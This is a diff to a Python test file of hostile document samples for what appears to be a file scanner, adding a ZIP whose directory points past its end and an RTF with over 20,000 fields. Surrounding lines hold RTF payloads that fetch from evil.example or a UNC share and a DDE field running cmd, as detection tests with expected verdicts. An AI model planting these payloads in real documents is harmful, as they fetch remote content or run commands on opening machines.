@@ -70,6 +70,14 @@ def _unlisted() -> bytes:
     return _ONE[:listed] + extra + _ONE[listed : end + 16] + struct.pack("<I", listed + len(extra)) + _ONE[end + 20 :]
 
 
+def _far() -> bytes:
+    """The second file stands where nothing does."""
+    two = o.zipped({"a.txt": b"A word.", "b.txt": b"A word."})
+    second = two.rindex(_LIST) + 42
+    gone = two[:second] + struct.pack("<I", 1 << 20) + two[second + 4 :]
+    return b"\0\0\0\0".join(gone.rsplit(b"PK\3\4", 1))
+
+
 _MANY = o.zipped({f"{n}.txt": b"" for n in range(4001)})
 _HUGE = _listed(o.zipped({f"{n}.txt": b"A" for n in range(21)}), 24, struct.pack("<I", 20 << 20))
 _STEEP = _listed(_ONE, 24, struct.pack("<I", 100 << 20))
@@ -94,6 +102,7 @@ ZIPS: tuple[Attack, ...] = (
     given("zip-locked", _listed(_ONE, 8, b"\1"), _LOCKED),
     given("zip-damaged", o.zipped({"a.txt": b"A word."}, zipfile.ZIP_STORED).replace(b"A word.", b"A sword"), "it is damaged: a.txt cannot be unpacked"),
     given("zip-breaks-off", _ONE[:-9], "it is damaged: it cannot be unpacked"),
+    given("zip-leads-behind-its-end", _far(), "it is damaged: it breaks off"),
     given("zip-empty", b"PK\3\4" + o.zipped({}), "it is empty"),
     given("zip-page-before", b"<html><script>boom()</script>" + _ONE, "it is called .zip, but is none"),
     given("zip-something-before", b"PK\3\4MZ" + _ONE, f"something stands before its beginning, {_OTHER}"),
@@ -121,7 +130,7 @@ def _deep() -> bytes:
     return content
 
 
-def _old(name: str, content: bytes, says: str, storages: tuple[str, ...] = (), **more: bytes) -> Attack:
+def _old(name: str, content: bytes, says: str, *storages: str, **more: bytes) -> Attack:
     main = {"doc": "WordDocument", "xls": "Workbook", "ppt": "PowerPoint Document"}[name[:3]]
     return given(name, o.compound({main: content, **more}, storages), says)
 
@@ -137,8 +146,8 @@ _MACROSHEET = (0x85, struct.pack("<IBB", 0, 0, 1) + b"\3\0One")
 _IN = "'a.docx' in it: "
 _LINK = b"\1\0\0\2\1\0\0\0"
 OLD: tuple[Attack, ...] = (
-    _old("doc-macros", o.DOC, _MACROS, ("Macros", "VBA")),
-    _old("xls-macros", o.XLS, _MACROS, ("_VBA_PROJECT_CUR",)),
+    _old("doc-macros", o.DOC, _MACROS, "Macros", "VBA"),
+    _old("xls-macros", o.XLS, _MACROS, "_VBA_PROJECT_CUR"),
     _old("xls-macro-sheet", o.records((0x809, bytes(16)), _MACROSHEET), _MACROS),
     _old("ppt-macros", bytes(4000) + _PPT_MACROS, _MACROS),
     _old("ppt-macros-packed", _slides(struct.pack("<I", len(_VBA)) + zlib.compress(_VBA), 0x10), "it carries macros in an embedded object"),
@@ -158,6 +167,7 @@ OLD: tuple[Attack, ...] = (
     given("rtf-template-in-signs", rb"{\rtf1 {\*\template \u104?\u116?\'74\u112?://evil.example}}", "it asks for something elsewhere when it is opened (template)"),
     given("rtf-dde", rb"{\rtf1 {\field{\*\fldinst {\b DDE}AUTO cmd}}}", _DDE),
     given("rtf-field-fetches", rb'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "\\\\evil\\x.png"}}}', "it asks for something elsewhere (INCLUDEPICTURE)"),
+    given("rtf-of-fields", b"{\\rtf1 " + b"{\\fldinst a}" * 20_001 + b"}", "it has more than 20000 fields"),
     given("docx-within-itself", _deep(), f"{3 * _IN}files lie in it within files, deeper than anybody looks"),
 )  # fmt: skip
 
